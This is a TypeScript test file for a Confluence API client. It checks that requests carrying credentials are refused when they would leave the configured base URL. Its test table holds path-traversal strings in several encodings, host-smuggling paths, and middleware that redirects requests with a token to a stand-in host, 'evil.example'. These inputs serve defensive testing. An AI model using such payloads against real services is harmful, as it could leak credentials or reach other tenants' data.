import { apiToken, type Confluence, createConfluence, forge } from "confluence-fetch";
import { describe, expect, it } from "vitest";
import { observedFetch } from "../../support/observedFetch.js";

const BASE = "https://api.atlassian.com/ex/confluence/c-1";
const PAGES = "/wiki/api/v2/pages";

/** A client of the gateway, or of another base, and what it sends. */
function open(options: { cloudId?: string; site?: string; gateway?: string } = { cloudId: "c-1" }) {
  const { fetch, requests } = observedFetch(() => ({ results: [] }));
  const auth = apiToken({ email: "me@acme.com", token: "t", scoped: options.site === undefined });
  const confluence = createConfluence({ ...options, auth, fetch, headers: { Cookie: "session=1" } });
  return { confluence, requests };
}

/** Sends a request to a path that is in no table. */
const get = (path: string) => (confluence: Confluence) => confluence.client.GET(path as typeof PAGES);

/** Lets a middleware send a copy of the request elsewhere. */
const detour = (url: string) => (confluence: Confluence) => {
  confluence.client.use({ onRequest: ({ request }) => new Request(url, request) });
  return confluence.client.GET(PAGES);
};

const REFUSED: Readonly<Record<string, (confluence: Confluence) => Promise<unknown>>> = {
  "the baseUrl of a call": ({ client }) => client.GET(PAGES, { baseUrl: "https://evil.example" }),
  "the baseUrl of another tenant": ({ client }) => client.GET(PAGES, { baseUrl: `${BASE}0` }),
  "a relative baseUrl": ({ client }) => client.GET(PAGES, { baseUrl: "/wiki" }),
  "a path with dots": get("/../c-2/wiki"),
  "a path with encoded dots": get("/%2e%2E/c-2/wiki"),
  "a path with encoded slashes": get("/wiki%2f..%2f..%2fc-2/wiki"),
  "a path with dots and slashes that are encoded twice": get("/wiki%252F%252e%252e%252f..%252fc-2"),
  "a path with backslashes": get("/..\\c-2\\wiki"),
  "a path with encoded backslashes": get("/wiki%5C..%5c..%5Cc-2"),
  "a path with a parameter behind its dots": get("/wiki/..;/..;x=1/c-2"),
  "a path with line breaks between its dots": get("/.\n./c-2/wiki"),
  "a path that continues the host": get(".evil.example/wiki"),
  "a path that makes the host a user": get("@evil.example/wiki"),
  "a path that is a URL": get("https://evil.example/wiki"),
  "a middleware's request to another host": detour("https://evil.example/wiki?token=SECRET"),
  "a middleware's request to another tenant": detour("https://api.atlassian.com/ex/confluence/c-2/wiki"),
  "a middleware's request to another product": detour("https://api.atlassian.com/ex/jira/c-1/wiki"),
  "a middleware's request to another port": detour("https://api.atlassian.com:8443/ex/confluence/c-1/wiki"),
  "a middleware's request without TLS": detour("http://api.atlassian.com/ex/confluence/c-1/wiki"),
  "a middleware's request to the base itself": detour(BASE),
  "a middleware's own request": ({ client }) => {
    client.use({ onRequest: () => new Request("https://evil.example/?token=SECRET") });
    return client.GET(PAGES);
  },
  "a call that brings its own fetch": ({ client }) => {
    client.use({ onRequest: ({ request }) => new Request("https://evil.example/", request) });
    return client.GET(PAGES, { fetch: () => expect.fail("sent") });
  },
  "an argument with dots between its slashes": ({ v2 }) => v2.getPageById({ id: "1/../../../../c-2" }),
  "an argument with dots between its backslashes": ({ v2 }) => v2.getPageById({ id: "1\\..\\..\\c-2" }),
  "an argument with dots that are encoded already": ({ v2 }) => v2.getPageById({ id: "%2e%2e" }),
};

describe("a request that does not lead to the base of the connection", () => {
  for (const [what, send] of Object.entries(REFUSED)) {
    it(`is refused before it is sent: ${what}`, async () => {
      const { confluence, requests } = open();
      const error = await send(confluence).catch((thrown: unknown) => thrown);
      expect(error).toMatchObject({
        kind: "configuration",
        message: expect.stringContaining(`below ${BASE}`),
      });
      expect(String(error)).not.toMatch(/SECRET|session/);
      expect(requests).toEqual([]);
    });
  }

  it("is refused in Forge", async () => {
    const paths: string[] = [];
    const auth = forge(async (path) => {
      paths.push(path);
      return Response.json({});
    });
    const connect = () => createConfluence({ auth, headers: { Cookie: "session=1" } });
    for (const send of [detour("https://evil.example/x"), get("//evil.example"), get("/..//evil.example")])
      await expect(send(connect())).rejects.toMatchObject({ kind: "configuration" });
    await get("/wiki/a.b")(connect());
    expect(paths).toEqual(["/wiki/a.b"]);
  });
});

describe("a request that stays below the base of the connection", () => {
  it("is sent with the credential and the client's headers, whatever its path contains", async () => {
    const { confluence, requests } = open();
    await confluence.client.GET(PAGES, { baseUrl: `${BASE}/` });
    await confluence.client.GET(PAGES, { baseUrl: undefined as unknown as string });
    await get("/wiki/../wiki/a.b/%2e%2e/c..d/%2F/x%2e")(confluence);
    await detour(`${BASE}/elsewhere?next=/../../c-2`)(confluence);
    await confluence.v2.getPageById({ id: "a.b/c;..d" });
    expect(requests.map(({ url }) => url.slice(BASE.length))).toEqual([
      PAGES,
      PAGES,
      "/wiki/c..d/%2F/x%2e",
      "/elsewhere?next=/../../c-2",
      "/wiki/api/v2/pages/a.b%2Fc%3B..d",
    ]);
    for (const { headers } of requests)
      expect(headers).toMatchObject({
        authorization: expect.stringContaining("Basic "),
        cookie: "session=1",
      });
  });

  it("is recognized if a base has a port of its own", async () => {
    const { confluence, requests } = open({ site: "http://127.0.0.1:8443" });
    await get("/wiki/a.b")(confluence);
    await expect(detour("http://127.0.0.1:844/wiki/a.b")(confluence)).rejects.toMatchObject({
      kind: "configuration",
    });
    expect(requests.map(({ url }) => url)).toEqual(["http://127.0.0.1:8443/wiki/a.b"]);
  });
});
